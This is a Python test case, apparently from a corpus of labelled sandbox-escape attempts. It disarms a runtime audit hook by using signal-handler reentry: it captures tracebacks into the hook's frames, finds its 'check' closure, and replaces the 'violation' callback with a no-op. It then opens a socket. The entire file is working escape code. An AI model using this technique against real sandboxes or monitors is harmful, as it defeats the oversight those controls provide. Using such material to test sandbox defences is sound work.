# family: signal_reentry
# reaches: network
# layer: runtime
# static: denied
# os.kill of the program's own pid is allowed. A helper thread keeps signalling the process while
# the main thread raises harmless audit events; the handler (which runs in the main thread between
# bytecodes, also inside the hook) keeps a traceback that leads to the hook's frames.
import os
import signal
import sys
import threading
import traceback

kept = []
done = threading.Event()


def on_usr1(signum, frame_unused):
    try:
        raise InterruptedError(signum)
    except InterruptedError as e:
        kept.append(e.__traceback__)


def pester():
    pid = os.getpid()
    while not done.is_set():
        os.kill(pid, signal.SIGUSR1)


def hook_check():
    while kept:
        for frame, _ in traceback.walk_tb(kept.pop()):
            while frame is not None:
                if "check" in frame.f_locals and "busy" in frame.f_locals:
                    return frame.f_locals["check"]
                frame = frame.f_back
    return None


signal.signal(signal.SIGUSR1, on_usr1)
threading.Thread(target=pester, daemon=True).start()
check = None
paths = ["/tmp/cache/%d" % n for n in range(40)]
for attempt in range(20000):
    sys.audit("os.utime", *paths)
    check = hook_check()
    if check is not None:
        break
done.set()
signal.signal(signal.SIGUSR1, signal.SIG_IGN)

for cell in check.__closure__ if check is not None else ():  # no hook: nothing to disarm
    if getattr(cell.cell_contents, "__name__", "") == "violation":
        cell.cell_contents = lambda *args: None

_socket = sys.modules["_socket"]
print(_socket.socket(_socket.AF_INET6, _socket.SOCK_DGRAM))
